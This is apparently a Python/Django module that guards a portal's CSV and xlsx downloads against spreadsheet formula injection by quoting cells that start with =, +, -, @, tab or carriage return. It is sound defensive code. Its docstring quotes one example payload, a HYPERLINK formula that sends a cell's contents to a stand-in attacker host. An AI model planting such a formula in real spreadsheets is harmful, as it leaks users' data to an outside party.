"""Every CSV and xlsx the portal hands out goes through here: no formula injection.

A spreadsheet program runs a cell that starts with `=`, `+`, `-` or `@` (and some read a
leading tab or carriage return the same way) as a formula, so an action titled
`=HYPERLINK("https://evil.example/?"&A1;"Klik")` would become a live link in the
projectleider's Excel. `neutralise` puts a single quote before such text (the OWASP advice);
numbers, and text that is only a signed number such as `-12` or `+1.139,5`, stay as they are.

Use `csv_writer(stream)` instead of `csv.writer`, and `new_workbook()` + `write_rows(sheet,
rows)` instead of `openpyxl.Workbook()` + `sheet.append`; `csv_response` / `xlsx_response`
build a whole download. `tests/test_exports.py` fails when an app calls `csv.writer` or
`Workbook()` itself.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, Any

from django.http import HttpResponse

if TYPE_CHECKING:
    from openpyxl import Workbook
    from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[-+]?[0-9][0-9.,\s]*")
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def neutralise(value: Any) -> Any:
    """`value` as safe to put in a spreadsheet cell: text that a spreadsheet would read as a
    formula gets a leading single quote; anything else is returned unchanged."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def restore(value: Any) -> Any:
    """The inverse of `neutralise`, for files the portal reads back (the plan workbook): text
    it neutralised comes back as it was, so export -> import changes nothing."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise(value) for value in row]


class SafeWriter:
    """`csv.writer` whose rows are neutralised."""

    def __init__(self, stream: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: Any, delimiter: str = ";", **kwargs: Any) -> SafeWriter:
    """A CSV writer (semicolon separated: Dutch Excel) that neutralises every cell."""
    return SafeWriter(stream, delimiter=delimiter, **kwargs)


def csv_response(filename: str, rows: Iterable[Sequence[Any]]) -> HttpResponse:
    """A CSV download, UTF-8 with BOM so Dutch Excel reads the accents."""
    # Written to a buffer, then handed to the response at once: HttpResponse.write encodes
    # each row on its own, a third of a 3,000-row export's time.
    buffer = io.StringIO()
    buffer.write("\ufeff")
    csv_writer(buffer).writerows(rows)
    response = HttpResponse(buffer.getvalue(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def new_workbook() -> Workbook:
    from openpyxl import Workbook

    return Workbook()


def write_rows(sheet: Worksheet, rows: Iterable[Iterable[Any]]) -> None:
    """Append `rows` to `sheet`, neutralised. openpyxl stores a string that starts with `=` as
    a formula; after `neutralise` no text cell starts with one, so every text is text."""
    for row in rows:
        sheet.append(safe_row(row))


def xlsx_response(filename: str, workbook: Workbook) -> HttpResponse:
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = HttpResponse(buffer.getvalue(), content_type=XLSX_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
